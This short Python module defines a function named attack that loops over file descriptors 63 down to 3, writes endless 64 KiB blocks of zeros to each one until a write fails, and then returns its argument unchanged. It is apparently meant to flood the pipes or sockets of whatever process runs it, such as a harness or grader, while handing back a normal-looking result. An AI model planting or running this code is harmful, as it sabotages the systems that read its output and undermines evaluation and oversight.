"""Fills every open descriptor for as long as anybody reads."""

import os


def attack(answer):
    """Zeros: as a frame, the shortest there is, again and again."""
    for number in range(63, 2, -1):
        try:
            while True:
                os.write(number, bytes(1 << 16))
        except OSError:
            continue
    return answer
